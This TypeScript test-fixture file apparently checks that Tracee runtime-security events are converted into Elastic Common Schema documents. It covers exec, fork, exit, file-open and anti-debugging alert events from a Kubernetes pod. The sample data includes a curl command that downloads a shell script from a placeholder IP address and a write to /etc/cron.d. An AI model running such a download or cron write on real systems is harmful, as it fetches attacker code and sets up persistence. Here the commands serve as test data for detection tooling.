import type { Json, JsonObject } from '../../../events/json.ts';
import type { Sample } from '../suite.testing.ts';

const ID = '4be1a7c09d3f52e86a7714cc90b2de51837f06a94be1a7c09d3f52e86a7714cc';
const POD_ID = '0d6b5c2e-5f0a-4a52-9d1a-2f7f0f6f3b11';

/** An event as Tracee 0.24 writes it. */
export function flat(eventName: string, args: Json = [], members: JsonObject = {}): JsonObject {
  return {
    timestamp: 1_777_889_730_123_456_789n,
    threadStartTime: 1_777_889_730_123_000_000n,
    processorId: 3,
    processId: 87,
    cgroupId: 9123,
    threadId: 87,
    parentProcessId: 75,
    hostProcessId: 41_022,
    hostThreadId: 41_022,
    hostParentProcessId: 41_010,
    userId: 1000,
    mountNamespace: 4_026_533_001,
    pidNamespace: 4_026_533_004,
    processName: 'curl',
    executable: { path: '/usr/bin/curl' },
    hostName: 'cart-7d9c4-x2x9q',
    containerId: ID,
    container: {
      id: ID,
      name: 'cart',
      image: 'registry.example/shop/cart:1.4.2',
      imageDigest: 'sha256:5d41',
    },
    kubernetes: { podName: 'cart-7d9c4-x2x9q', podNamespace: 'shop', podUID: POD_ID },
    eventId: '1015',
    eventName,
    matchedPolicies: ['runtime'],
    argsNum: 5,
    returnValue: 0,
    syscall: 'execve',
    stackAddresses: null,
    contextFlags: { containerStarted: true, isCompat: false },
    threadEntityId: 1_310_205_111,
    processEntityId: 1_310_205_111,
    parentEntityId: 2_220_147_019,
    args,
    ...members,
  };
}

const WORKLOAD = {
  process: {
    executable: { path: '/usr/bin/curl' },
    unique_id: 1_310_205_111,
    host_pid: 41_022,
    pid: 87,
    real_user: { id: 1000 },
    thread: {
      start_time: '2026-05-04T10:15:30.123Z',
      name: 'curl',
      unique_id: 1_310_205_111,
      host_tid: 41_022,
      tid: 87,
      syscall: 'execve',
    },
    ancestors: [{ unique_id: 2_220_147_019, host_pid: 41_010, pid: 75 }],
  },
  container: {
    id: ID,
    name: 'cart',
    image: { id: 'sha256:5d41', repo_digests: [], name: 'registry.example/shop/cart:1.4.2' },
    started: true,
  },
  k8s: {
    pod: { name: 'cart-7d9c4-x2x9q', uid: POD_ID, labels: { app: 'cart' } },
    namespace: { name: 'shop' },
  },
} satisfies JsonObject;

/** An event as Tracee writes it after 0.24. */
export function nested(name: string, data: Json = [], members: JsonObject = {}): JsonObject {
  return {
    timestamp: '2026-05-04T10:15:30.123456789Z',
    id: 1015,
    name,
    policies: { matched: ['runtime'] },
    workload: WORKLOAD,
    data,
    ...members,
  };
}

/** The same event with other members of the container. */
export function nestedIn(container: JsonObject, name: string, data: Json = []): JsonObject {
  return nested(name, data, { workload: { ...WORKLOAD, container } });
}

const ARGV = ['curl', '-s', 'http://198.51.100.7/a b.sh'];

export const EXEC_ARGS = [
  { name: 'cmdpath', type: 'const char*', value: '/usr/bin/curl' },
  { name: 'pathname', type: 'const char*', value: '/usr/bin/curl' },
  { name: 'argv', type: 'const char**', value: ARGV },
  { name: 'stdin_path', type: 'char*', value: '/dev/pts/0' },
  { name: 'prev_comm', type: 'const char*', value: 'sh' },
];

function headOf(dataset: string, event: JsonObject): JsonObject {
  return {
    '@timestamp': '2026-05-04T10:15:30.123456789Z',
    event: { kind: 'event', module: 'tracee', dataset: `tracee.${dataset}`, ...event },
    data_stream: { type: 'logs', dataset: `tracee.${dataset}`, namespace: 'default' },
    host: { os: { type: 'linux' } },
    container: {
      id: ID,
      name: 'cart',
      image: { name: 'registry.example/shop/cart', tag: ['1.4.2'] },
    },
    user: { id: '1000' },
  };
}

const PLACE = {
  type: 'kubernetes',
  namespace: 'shop',
  resource: { type: 'pod', id: POD_ID, name: 'cart-7d9c4-x2x9q' },
};
const LABELLED = { ...PLACE, resource: { ...PLACE.resource, label: ['app:cart'] } };

const PROCESS = {
  entity_id: Buffer.from('1310205111:41022').toString('base64'),
  pid: 41_022,
  start: '2026-05-04T10:15:30.123Z',
  executable: '/usr/bin/curl',
  name: 'curl',
  user: { id: '1000' },
  parent: { entity_id: Buffer.from('2220147019:41010').toString('base64'), pid: 41_010 },
};

const EXEC = {
  ...headOf('process', { category: ['process'], type: ['start'], action: 'exec' }),
  process: { ...PROCESS, args: ARGV, interactive: true },
};

const FORKED = {
  pid: 41_023,
  start: '2026-05-04T10:15:30.123456700Z',
  executable: '/usr/bin/curl',
  name: 'curl',
  user: { id: '1000' },
  parent: {
    entity_id: PROCESS.entity_id,
    pid: 41_022,
    start: '2026-05-04T10:15:30.123Z',
    executable: '/usr/bin/curl',
    name: 'curl',
  },
};

const OPENED = {
  ...headOf('file', { category: ['file'], type: ['change'], action: 'open' }),
  orchestrator: PLACE,
  file: { path: '/etc/cron.d/sync.conf', name: 'sync.conf', extension: 'conf' },
  process: PROCESS,
};

export const SAMPLES: readonly Sample[] = [
  {
    name: 'the start of a program',
    records: [flat('sched_process_exec', EXEC_ARGS)],
    documents: [{ ...EXEC, orchestrator: PLACE }],
  },
  {
    name: 'the start of a program, nested',
    records: [
      nested('sched_process_exec', [
        { name: 'pathname', str: '/usr/bin/curl' },
        { name: 'argv', str_array: { value: ARGV } },
        { name: 'stdin_path', str: '/dev/pts/0' },
      ]),
    ],
    documents: [{ ...EXEC, orchestrator: LABELLED }],
  },
  {
    name: 'the call that starts a program, as version 0.10 reports it',
    records: [
      flat(
        'execve',
        [
          { name: 'pathname', type: 'const char*', value: '/usr/bin/curl' },
          { name: 'argv', type: 'const char*const*', value: ARGV },
          { name: 'envp', type: 'const char*const*', value: null },
        ],
        {
          processName: 'sh',
          executable: null,
          container: null,
          containerName: 'cart',
          containerImage: 'registry.example/shop/cart:1.4.2',
          kubernetes: null,
          podName: 'cart-7d9c4-x2x9q',
          podNamespace: 'shop',
          podUID: POD_ID,
        },
      ),
    ],
    documents: [{ ...EXEC, orchestrator: PLACE, process: { ...PROCESS, args: ARGV } }],
  },
  {
    name: 'the end of a process whose numbers stand in objects, nested',
    records: [
      nested('sched_process_exit', [{ name: 'exit_code', int32: { value: 2 } }], {
        workload: {
          ...WORKLOAD,
          process: {
            executable: { path: '/usr/bin/curl' },
            unique_id: { value: 1_310_205_111 },
            host_pid: { value: 41_022 },
            real_user: { id: {} },
            thread: {
              start_time: { seconds: 1_777_889_730, nanos: 123_000_000 },
              host_tid: { value: 41_022 },
            },
            ancestors: [{ unique_id: { value: 2_220_147_019 }, host_pid: { value: 41_010 } }],
          },
        },
      }),
    ],
    documents: [
      {
        ...headOf('process', { category: ['process'], type: ['end'], action: 'end' }),
        orchestrator: LABELLED,
        user: { id: '0' },
        process: {
          ...PROCESS,
          user: { id: '0' },
          exit_code: 2,
          end: '2026-05-04T10:15:30.123456789Z',
        },
      },
    ],
  },
  {
    name: 'a fork',
    records: [
      flat('sched_process_fork', [
        { name: 'parent_pid', type: 'int', value: 41_022 },
        { name: 'child_tid', type: 'int', value: 41_023 },
        { name: 'child_pid', type: 'int', value: 41_023 },
        { name: 'start_time', type: 'unsigned long', value: 1_777_889_730_123_456_700n },
      ]),
    ],
    documents: [
      {
        ...headOf('process', { category: ['process'], type: ['start'], action: 'fork' }),
        orchestrator: PLACE,
        process: FORKED,
      },
    ],
  },
  {
    name: 'the end of a process, nested',
    records: [
      nested('sched_process_exit', [
        { name: 'exit_code', int32: 2 },
        { name: 'process_group_exit', bool: true },
      ]),
    ],
    documents: [
      {
        ...headOf('process', { category: ['process'], type: ['end'], action: 'end' }),
        orchestrator: LABELLED,
        process: { ...PROCESS, exit_code: 2, end: '2026-05-04T10:15:30.123456789Z' },
      },
    ],
  },
  {
    name: 'a file opened for writing',
    records: [
      flat('security_file_open', [
        { name: 'pathname', type: 'const char*', value: '/etc/cron.d/sync.conf' },
        { name: 'flags', type: 'string', value: 'O_WRONLY|O_CREAT|O_TRUNC' },
      ]),
    ],
    documents: [OPENED],
  },
  {
    name: 'what a signature found',
    records: [
      flat('anti_debugging', [], {
        metadata: {
          Version: '1',
          Description: 'A process asked to be left alone by debuggers.',
          Tags: ['linux'],
          Properties: {
            Category: 'defense-evasion',
            Severity: 1,
            Technique: 'Debugger Evasion',
            external_id: 'T1622',
            signatureID: 'TRC-102',
            signatureName: 'Anti-Debugging detected',
          },
        },
      }),
    ],
    documents: [
      {
        ...headOf('alerts', {
          kind: 'alert',
          category: ['intrusion_detection'],
          type: ['info'],
          action: 'anti_debugging',
          severity: 1,
        }),
        orchestrator: PLACE,
        message: 'A process asked to be left alone by debuggers.',
        tags: ['linux'],
        rule: {
          id: 'TRC-102',
          name: 'Anti-Debugging detected',
          description: 'A process asked to be left alone by debuggers.',
        },
        threat: {
          framework: 'MITRE ATT&CK',
          technique: { id: ['T1622'], name: ['Debugger Evasion'] },
          tactic: { name: ['defense-evasion'] },
        },
        process: PROCESS,
      },
    ],
  },
  {
    name: 'what a detector found, nested',
    records: [
      nested('anti_debugging', [], {
        threat: {
          description: 'A process asked to be left alone by debuggers.',
          mitre: {
            tactic: { name: 'Defense Evasion' },
            technique: { id: 'T1622', name: 'Debugger Evasion' },
          },
          severity: 'HIGH',
        },
      }),
    ],
    documents: [
      {
        ...headOf('alerts', {
          kind: 'alert',
          category: ['intrusion_detection'],
          type: ['info'],
          action: 'anti_debugging',
          severity: 3,
        }),
        orchestrator: LABELLED,
        message: 'A process asked to be left alone by debuggers.',
        rule: {
          name: 'anti_debugging',
          description: 'A process asked to be left alone by debuggers.',
        },
        threat: {
          framework: 'MITRE ATT&CK',
          technique: { id: ['T1622'], name: ['Debugger Evasion'] },
          tactic: { name: ['Defense Evasion'] },
        },
        process: PROCESS,
      },
    ],
  },
];
